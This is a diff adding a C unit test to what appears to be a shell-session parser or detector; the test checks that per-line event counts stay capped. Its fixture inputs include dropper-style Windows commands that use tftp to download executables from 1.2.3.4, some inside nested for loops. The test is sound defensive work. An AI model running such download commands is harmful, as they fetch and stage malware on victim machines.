@@ -350,6 +350,29 @@ static void test_long_lines(void)
 	ws_shell_free(s);
 }
 
+/* Per-line limits: a for loop cannot make thousands of events. */
+static void test_line_limits(void)
+{
+	struct ws_shell *s = ws_shell_new();
+	struct log l = {.n = 0};
+	struct ws_shell_stats st;
+
+	feed(s, WS_SIDE_SERVER, BANNER, &l);
+	feed(s, WS_SIDE_CLIENT, "for %a in (1 2 3 4 5 6 7 8) do for %b in (1 2 3 4 5 6 7 8) do "
+				"for %c in (1 2) do tftp -i 1.2.3.4 GET %a%b%c.exe\n", &l);
+	ws_shell_get_stats(s, &st);
+	CHECK(l.n > 0 && l.n <= WS_SHELL_EVENTS_PER_LINE, "events capped: %u", l.n);
+	CHECK(st.over_budget > 0, "the rest is counted");
+	l.n = 0;
+	feed(s, WS_SIDE_CLIENT, "echo 1&echo 2&echo 3&echo 4&echo 5&echo 6&echo 7&echo 8&echo 9&"
+				"tftp -i 1.2.3.4 GET t1.exe&tftp -i 1.2.3.4 GET t2.exe\n", &l);
+	CHECK(l.n == 2, "a few commands are far from the limits: %u", l.n);
+	l.n = 0;
+	feed(s, WS_SIDE_CLIENT, "tftp -i 1.2.3.4 GET next.exe\n", &l);
+	CHECK(l.n == 1, "the next line has its own limits");
+	ws_shell_free(s);
+}
+
 /* Memory: an idle session, a typical dropper session, and the bounds. */
 static void test_memory(void)
 {
@@ -490,6 +513,7 @@ int main(void)
 	test_continuation();
 	test_end_of_stream();
 	test_long_lines();
+	test_line_limits();
 	test_memory();
 	test_inet_addr();
 	test_screen();
